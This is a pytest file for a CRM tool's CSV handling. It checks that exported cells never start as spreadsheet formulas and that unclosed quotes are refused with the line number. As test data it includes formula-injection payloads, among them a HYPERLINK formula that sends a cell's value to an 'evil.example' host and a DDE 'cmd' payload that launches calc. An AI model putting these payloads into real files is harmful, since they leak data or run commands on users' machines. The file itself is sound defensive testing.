"""CSV that cannot attack and cannot mislead (issue 15, items 4 and 6), on SQLite and PostgreSQL.

Item 4: no cell of any CSV metacrm writes (export, ``--format csv``, the import report) starts
as a spreadsheet formula; numbers keep their minus where the column holds numbers; an
exported file imported back gives exactly the values exported.
Item 6: a quoted value that never closes is refused naming the file and the line where it
opens: exit 1, one line on stderr, nothing imported.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from conftest import pg_schema_url
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select
from typer.testing import CliRunner

import metacrm
from metacrm.cli.main import app
from metacrm.io import export_csv, import_csv
from metacrm.io.csv_cells import neutralise, restore, unterminated_quote

MODEL = """
metacrm: 1
name: inject
entities:
  item:
    fields:
      name: {type: string}
      note: {type: text}
      phone: {type: phone}
      qty: {type: integer}
      price: {type: money}
      rate: {type: decimal}
      data: {type: json}
"""

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
TEXTS = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+7 495",
    "-12.50",  # a number, but in a text column
    "-",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "\r=1",
    "'=x",  # a text that looks neutralised already
    "''-y",
    "'hello",  # a quote without a trigger: left alone
    "plain text",
    "a=b",
    "",
]


@pytest.fixture
def model_path(tmp_path) -> Path:
    path = tmp_path / "inject.yaml"
    path.write_text(MODEL, encoding="utf-8")
    return path


@pytest.fixture
def crm(db_url, model_path):
    crm = metacrm.connect(model_path, db_url)
    crm.migrate()
    yield crm
    crm.close()


@pytest.fixture
def fresh_url(db_url, tmp_path):
    if db_url.startswith("sqlite"):
        yield f"sqlite:///{tmp_path / 'fresh.db'}"
        return
    with pg_schema_url() as url:
        yield url


def fill(crm) -> list[dict]:
    records = [{"name": text or None, "note": text or None} for text in TEXTS]
    records.append({"name": "numbers", "qty": -5, "price": "-12.50", "rate": "-0.125", "data": {"f": "=1"}})
    records.append({"name": "phone", "phone": "+7 495 123-45-67", "data": "=2+3"})
    return crm.create_many("item", records)


def dangerous(cell: str) -> bool:
    return cell[:1] in TRIGGERS


def test_export_neutralises_formulas_and_reads_back_exactly(crm, fresh_url, tmp_path) -> None:
    fill(crm)
    path = tmp_path / "items.csv"
    export_csv(crm, "item", path)
    rows = list(csv.DictReader(path.open(encoding="utf-8", newline="")))
    numeric = {"qty", "price", "rate", "id"}
    for row in rows:
        for column, cell in row.items():
            assert not dangerous(cell) or (column in numeric and cell.startswith("-")), (column, cell)
    by_name = {r["name"]: r for r in rows}
    assert by_name["'=1+2"]["note"] == "'=1+2"
    assert by_name["'-12.50"]["note"] == "'-12.50"  # text: neutralised even when it reads as a number
    assert by_name["'''-y"]["note"] == "'''-y"  # one more quote, removed on import
    assert by_name["'hello"]["note"] == "'hello"  # nothing to neutralise
    numbers = by_name["numbers"]
    assert (numbers["qty"], numbers["price"], numbers["rate"]) == ("-5", "-12.50", "-0.125")  # numeric columns, as every command prints them
    assert by_name["phone"]["phone"] == "'+74951234567" and by_name["phone"]["data"] == '"=2+3"'

    fresh = metacrm.connect(crm.model, fresh_url)
    fresh.migrate()
    result = import_csv(fresh, "item", path)
    assert result.created == len(rows) and not result.rejected
    skip = ("id", "created_at", "updated_at", "version")
    before = [{k: v for k, v in r.items() if k not in skip} for r in crm.find("item", order_by="id")]
    after = [{k: v for k, v in r.items() if k not in skip} for r in fresh.find("item", order_by="id")]
    assert after == before  # every value exactly, the tab and carriage return included
    assert [r["note"] for r in after][: len(TEXTS)] == [t or None for t in TEXTS]
    assert after[-2]["price"] == Decimal("-12.50")
    fresh.close()


def test_a_hand_written_quote_before_a_formula_is_text(crm, tmp_path) -> None:
    path = tmp_path / "typed.csv"
    path.write_text("name,note\n'=1+2,'hello\n'-5,=raw\n", encoding="utf-8")
    import_csv(crm, "item", path)
    assert [(r["name"], r["note"]) for r in crm.find("item", order_by="id")] == [("=1+2", "'hello"), ("-5", "=raw")]


def test_the_import_report_neutralises_its_cells(crm, tmp_path) -> None:
    path = tmp_path / "bad.csv"
    path.write_text('name,qty\n=cmd(),=1+2\nok,3\n@x,"-4"\n', encoding="utf-8")
    report = tmp_path / "report.csv"
    result = import_csv(crm, "item", path, skip_invalid=True, report_path=report)
    assert result.created == 2 and result.rejected_rows == [2]
    rows = list(csv.reader(report.open(encoding="utf-8", newline="")))
    assert rows[1][:2] == ["2", "rejected"]
    assert rows[1][-2:] == ["'=cmd()", "'=1+2"]  # the row's own cells
    assert not any(dangerous(cell) for row in rows for cell in row)
    assert {(r["name"], r["qty"]) for r in crm.find("item")} == {("ok", 3), ("@x", -4)}


def test_cli_csv_outputs_are_neutralised(db_url, model_path, tmp_path) -> None:
    opts = ["--model", str(model_path), "--db", db_url]
    runner = CliRunner()

    def run(*args: str) -> str:
        result = runner.invoke(app, [*args, *opts])
        assert result.exit_code == 0, result.output
        return result.stdout

    run("migrate")
    run("create", "item", "name==HYPERLINK(1)", "price=-12.50", "qty=-3")
    run("create", "item", "name=@evil", "price=2.00")
    outputs = {
        "export": run("export", "item"),
        "list": run("list", "item", "--format", "csv"),
        "get": run("get", "item", "1", "--format", "csv"),
        "group": run("report", "group", "item", "--by", "name", "--sum", "price", "--format", "csv"),
    }
    for command, text in outputs.items():
        rows = list(csv.reader(io.StringIO(text)))
        cells = [cell for row in rows for cell in row]
        assert "'=HYPERLINK(1)" in cells, command
        bad = [cell for cell in cells if dangerous(cell) and cell not in ("-12.50", "-3")]
        assert bad == [], (command, bad)
    assert "-12.50" in next(csv.reader(io.StringIO(outputs["export"].splitlines()[1])))
    group = list(csv.DictReader(io.StringIO(outputs["group"])))
    assert {(r["value"], r["sum"]) for r in group} == {("'=HYPERLINK(1)", "-12.50"), ("'@evil", "2.00")}


@pytest.mark.parametrize("text", [*TEXTS, "'", "''", "'=", "=", "\t", "'\t'", "-1", "-1.5"])
def test_neutralise_then_restore_is_the_identity(text) -> None:
    for numeric in (False, True):
        written = neutralise(text, numeric=numeric)
        assert restore(written) == text
        assert not dangerous(written) or (numeric and written == text and text.startswith("-"))


@given(st.text(alphabet="'=+-@\t\rab1.", max_size=8), st.booleans())
def test_neutralise_round_trips_any_text(text, numeric) -> None:
    written = neutralise(text, numeric=numeric)
    assert restore(written) == text
    if dangerous(written):
        assert numeric and written == text


# --------------------------------------------------------------------------- item 6


def snapshot(crm) -> dict:
    out = {}
    with crm.engine.connect() as conn:
        for table in crm.storage.metadata.sorted_tables:
            out[table.name] = sorted(map(repr, conn.execute(select(table)).all()))
    return out


UNTERMINATED = [
    # (file content, the line where the quote opens)
    ('name,note\nok,fine\nbad,"never closed\nnext,row\nlast,row\n', 3),
    ('name,note\n"multi\nline",fine\nsecond,"opens here\nand runs\n', 4),  # a closed multi-line value first
    ('name;note\nok;"a ""quoted"" word"\nbad;x\n"open;y\nz;w', 4),  # semicolons, no final newline
    ('"name,note\na,b\n', 1),  # in the header
    ('name,note\nrow,"closed"" then "" open\n', 2),  # the escaped quotes do not close it
]


@pytest.mark.parametrize(
    ("content", "line"), UNTERMINATED, ids=[f"line{n}-{i}" for i, (_, n) in enumerate(UNTERMINATED)]
)
def test_an_unterminated_quote_is_refused_with_its_line(crm, db_url, model_path, tmp_path, content, line) -> None:
    crm.create("item", {"name": "kept"})
    before = snapshot(crm)
    path = tmp_path / "broken.csv"
    path.write_bytes(content.encode("utf-8"))
    with pytest.raises(metacrm.ValidationError, match=rf"^{path}:{line}: a quoted value opened on this line"):
        import_csv(crm, "item", path)
    result = CliRunner().invoke(app, ["import", "item", str(path), "--model", str(model_path), "--db", db_url])
    assert result.exit_code == 1
    assert "Traceback" not in result.output and result.stdout == ""
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and f"{path}:{line}:" in lines[0], result.stderr
    assert snapshot(crm) == before


@pytest.mark.parametrize(
    "content",
    [
        'name,note\na,"closed at the end"',
        'name,note\na,"multi\nline"\nb,c\n',
        'name,note\na,b"c\nd,e\n',  # a quote inside an unquoted value is a plain character
        'name,note\na,"x"y\n',  # text after a closing quote goes on unquoted
        'name,note\na,""\n',
        'name,note\r\na,"b\r\nc"\r\n',
    ],
)
def test_closed_quotes_are_read(crm, tmp_path, content) -> None:
    path = tmp_path / "fine.csv"
    path.write_bytes(content.encode("utf-8"))
    result = import_csv(crm, "item", path)
    assert result.created == len(list(csv.reader(io.StringIO(content, newline="")))) - 1


def test_unterminated_quote_scanner() -> None:
    assert unterminated_quote(['a,"b\n', "c\n"], ",") == 0
    assert unterminated_quote(['a,"b\n', 'c",d\n', 'e,"f\n', "g"], ",") == 2
    assert unterminated_quote(['a;"b""c";"d\n'], ";") == 0
    assert unterminated_quote(['a,"b,c"\n'], ";") is None  # the quoted value closes at its end
    assert unterminated_quote(['a,b"c,"d"\n'], ",") is None
